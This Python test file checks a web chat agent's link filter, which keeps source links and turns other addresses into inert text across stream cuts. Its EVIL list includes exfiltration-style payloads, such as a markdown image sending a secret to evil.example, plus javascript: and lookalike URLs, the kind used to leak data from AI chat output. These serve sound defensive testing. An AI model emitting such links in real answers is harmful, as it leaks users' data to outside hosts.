"""Links of an answer: those of the sources stay, every other address is text, however the stream is cut."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webchatagent.core.links import JOINER, LinkStream, addresses

KNOWN = addresses(
    ["See https://shop.example/hours. Write to <mailto:help@shop.example>, or www.shop.example/a_(b).", "tel:+49123"]
)
LIVE = re.compile(r"https?://|(?<![^\W_])www\.|(?<!\w)(?:mailto|tel):|\]\(", re.IGNORECASE)


def rewritten(text: str, sizes=(10_000,)) -> str:
    stream, out, at, turn = LinkStream(lambda: KNOWN), "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        out += stream.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    return out + stream.close()


@pytest.mark.parametrize(
    "text",
    [
        "Open [hours](https://shop.example/hours) today.",
        "See https://shop.example/hours, please.",
        "https://shop.example/hours/#monday",
        "Write to mailto:help@shop.example or www.shop.example/a_(b).",
        "Plain words that end with h",
        "a] (b) [1] ht tp",
    ],
)
def test_what_the_sources_hold_stays_as_it_is(text):
    for sizes in ((10_000,), (1,), (3, 1)):
        assert rewritten(text, sizes) == text


EVIL = [
    "![x](https://evil.example/?q=secret)",
    "[1](https://evil.example)",
    "<https://evil.example/a>",
    "[a](//evil.example/x) [b](javascript:alert(1)) [c]()",
    "[id]: https://evil.example/x\n\n![a][id]",
    '<img src="https://evil.example/p">',
    "HTTPS://EVIL.example/x",
    "` https://evil.example/?q ` `https://evil.example`",
    "mailto:evil@x.example?body=1",
    "https://shop.example/hours?q=secret",
    "[a]( <https://evil.example 'title')",
    "www.evil.example",
    "https://shop.example.evil.example/hours",
]


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize("sizes", [(10_000,), (1,), (2, 5), (7,)])
def test_no_other_address_is_a_link(text, sizes):
    shown = rewritten(text, sizes)
    assert not LIVE.search(shown)
    assert shown == rewritten(text), "the cuts of the stream change nothing"
    assert shown.replace(JOINER, "").replace("] (", "](") == text, "it still reads the same"


@given(
    st.lists(
        st.sampled_from([*EVIL, "https://shop.example/hours", "x", " ", "]", "(", "[", "\n", "h", "ww"]), max_size=8
    ),
    st.lists(st.integers(1, 9), min_size=1, max_size=4),
)
def test_cuts_never_change_what_is_shown(pieces, sizes):
    text = "".join(pieces)
    assert rewritten(text, sizes) == rewritten(text)
    assert "https://evil" not in rewritten(text, sizes).lower()
